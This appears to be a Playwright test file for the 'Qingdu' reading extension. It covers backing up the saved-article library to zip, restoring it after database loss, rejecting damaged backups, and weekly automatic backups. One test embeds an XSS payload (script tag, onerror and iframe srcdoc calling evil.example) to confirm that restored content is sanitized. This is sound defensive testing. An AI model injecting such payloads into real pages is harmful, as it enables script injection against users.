import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright'
import { articleAt } from '../harness/article.ts'
import { type Chromium, launchChromium } from '../harness/chromium.ts'
import { distWith } from '../harness/dist-without.ts'
import { expect, test } from '../harness/test.ts'
import { until } from '../harness/until.ts'

const LIBRARY = '/src/entries/pages/library/library.html'
const OPTIONS = '/src/entries/pages/options/options.html'

async function save({ control }: Pick<Chromium, 'control'>, url: string, changed: object = {}): Promise<void> {
  const answer = await control.evaluate(
    async (argument) => (await chrome.runtime.sendMessage({ qingdu: 'extension', call: 'save', argument })) as unknown,
    { article: { ...articleAt(url), ...changed }, tabId: null },
  )
  expect(answer).toMatchObject({ ok: true })
}

async function open(extension: Chromium, path: string): Promise<Page> {
  const page = await extension.context.newPage()
  await page.goto(extension.address(path))
  return page
}

const rows = (page: Page): Promise<(string | null)[]> =>
  page.locator('.row[data-url]').evaluateAll((all) => all.map((row) => row.getAttribute('data-url')))

/** Takes the database away as a browser does that found it damaged: none of our code has a part in it. */
const lose = ({ control }: Chromium): Promise<void> =>
  control.evaluate(
    () =>
      new Promise<void>((resolve, reject) => {
        const asked = indexedDB.deleteDatabase('qingdu')
        asked.onsuccess = () => resolve()
        asked.onerror = () => reject(asked.error)
      }),
  )

const remembered = async (extension: Chromium): Promise<unknown> => (await extension.readStorage())['library-memory']

test('the library goes into a file and, lost, comes back out of it; a damaged file changes nothing', async ({
  extension,
}, info) => {
  const urls = ['https://river.example/a', 'https://river.example/b']
  for (const url of urls) await save(extension, url)
  const options = await open(extension, OPTIONS)
  const section = options.locator('#library')
  for (const key of ['storageHere', 'persistLater', 'backupNever'])
    await expect(section).toContainText(await extension.message(key))
  const [download] = await Promise.all([
    options.waitForEvent('download'),
    section.getByRole('button', { name: await extension.message('backupNow') }).click(),
  ])
  expect(download.suggestedFilename()).toMatch(/^qingdu-library-\d{4}-\d\d-\d\d\.zip$/)
  const file = info.outputPath('backup.zip')
  await download.saveAs(file)
  await expect(section.locator('.done')).toBeVisible()
  await expect(section).toContainText((await extension.message('backupLast')).replace('{date}', ''))
  await options.close()

  await expect.poll(() => remembered(extension)).toMatchObject({ count: 2, lost: null })
  await lose(extension)
  const library = await open(extension, LIBRARY)
  await expect(library.getByRole('alert')).toContainText((await extension.message('lostSaid')).split('{n}')[0] ?? '-')
  expect(await remembered(extension)).toMatchObject({ count: 0, lost: { count: 2 } })
  expect(await rows(library)).toEqual([])

  const again = await open(extension, OPTIONS)
  await expect(again.getByRole('alert')).toContainText('2')
  const whole = readFileSync(file)
  const give = async (bytes: Buffer) =>
    again
      .locator('#library input[type=file]')
      .setInputFiles({ name: 'backup.zip', mimeType: 'application/zip', buffer: bytes })
  await give(whole.subarray(0, whole.length - 40))
  await expect(again.locator('#library .failed')).toContainText(await extension.message('problem_broken_backup_next'))
  expect(await rows(library)).toEqual([])
  await give(Buffer.from('<!doctype html>'))
  await expect(again.locator('#library .failed')).toContainText(await extension.message('problem_no_backup_next'))
  await give(whole)
  await expect(again.locator('#library .done')).toBeVisible()
  await expect.poll(() => rows(library)).toEqual(urls.toReversed())
  // Back again: nobody is told any more. Lost once more, and let go.
  await expect.poll(() => remembered(extension)).toMatchObject({ count: 2, lost: null })
  for (const page of [library, again]) await expect(page.getByRole('alert')).toHaveCount(0)
  await lose(extension)
  await library.reload()
  await library.getByRole('button', { name: await extension.message('dismiss') }).click()
  await expect(library.getByRole('alert')).toHaveCount(0)
  await expect(library.locator('#list')).toBeFocused()
  expect(await remembered(extension)).toMatchObject({ count: 0, lost: null })
  expect(extension.errors).toEqual([])
})

test('scripts in a backup stay what they are: text that is never run', async ({ extension, server }, info) => {
  const url = 'https://river.example/hostile'
  const evil = `document.title='owned';fetch('https://evil.example/')`
  const content = `<p>书摊明天还来。</p><img src="x" onerror="${evil}"><script>${evil}</script><iframe srcdoc="<script>${evil}</script>"></iframe>`
  await save(extension, url, { content })
  const options = await open(extension, OPTIONS)
  const [download] = await Promise.all([
    options.waitForEvent('download'),
    options
      .locator('#library')
      .getByRole('button', { name: await extension.message('backupNow') })
      .click(),
  ])
  const file = info.outputPath('hostile.zip')
  await download.saveAs(file)
  await options.close()
  await extension.reset()
  const again = await open(extension, OPTIONS)
  await again.locator('#library input[type=file]').setInputFiles(file)
  await expect(again.locator('#library .done')).toBeVisible()
  server.forget()
  const tab = await open(extension, `/src/entries/pages/tab/tab.html#saved=${encodeURIComponent(url)}`)
  await expect(tab.locator('.body')).toContainText('书摊明天还来。')
  await expect(tab.locator('.body :is(script, iframe, [onerror])')).toHaveCount(0)
  await expect(tab).toHaveTitle('河边的书摊')
  expect(server.requests()).toEqual([])
})

test('where downloads are allowed the library backs itself up once a week, and the last three files stay', async () => {
  const [home, dist] = [mkdtempSync(join(tmpdir(), 'qingdu-home-')), distWith('downloads')]
  const extension = await launchChromium({ dist, env: { HOME: home } })
  const folder = join(home, 'Downloads', 'Qingdu')
  const files = (): string[] => (existsSync(folder) ? readdirSync(folder).toSorted() : [])
  try {
    const { context, control } = extension
    // Playwright's own keeping of downloads gives them other names.
    const session = await context.browser()?.newBrowserCDPSession()
    await session?.send('Browser.setDownloadBehavior', { behavior: 'default' })
    const old = ['2026-01-01', '2026-01-08', '2026-01-15'].map((day) => `qingdu-library-${day}.zip`)
    for (const name of old)
      await control.evaluate(async (filename) => {
        await chrome.downloads.download({ url: 'data:application/zip,PK', filename })
      }, `Qingdu/${name}`)
    await until('the old ones lie there', async () => (files().length === 3 ? true : null))
    // Another profile's of today, in the same folder.
    const others = `qingdu-library-${new Date().toISOString().slice(0, 10)}.zip`
    writeFileSync(join(folder, others), 'not ours')
    await save(extension, 'https://river.example/a')
    // While a loss is not decided about, nothing smaller is written: one backup made now would be the week's.
    await expect.poll(() => remembered(extension)).toMatchObject({ count: 1 })
    const lost = { count: 2, left: 1, countedAt: 1, seenAt: 2 }
    const memory = { ...Object(await remembered(extension)), lost }
    await extension.writeStorage({ 'library-memory': memory })
    const library = await open(extension, LIBRARY)
    await expect(library.getByRole('alert')).toContainText(await extension.message('lostWhere'))
    await library.getByRole('button', { name: await extension.message('dismiss') }).click()
    await expect(library.getByRole('alert')).toHaveCount(0)
    await library.reload()
    const said = (await extension.message('backupAutoDone')).replace('{n}', '1')
    await expect(library.locator('.toast')).toContainText(said)
    await expect.poll(files).toEqual([...old.slice(1), others.replace('.zip', ' (1).zip'), others])
    expect(readFileSync(join(folder, others), 'utf8')).toBe('not ours')
    // A week has not passed, though something was saved since.
    await save(extension, 'https://river.example/b')
    const written = files().map((name) => readFileSync(join(folder, name)).length)
    await library.reload()
    await expect(library.locator('.row[data-url]')).toHaveCount(2)
    expect(files().map((name) => readFileSync(join(folder, name)).length)).toEqual(written)
  } finally {
    await extension.close()
    for (const made of [home, dist]) rmSync(made, { recursive: true, force: true, maxRetries: 5 })
  }
})
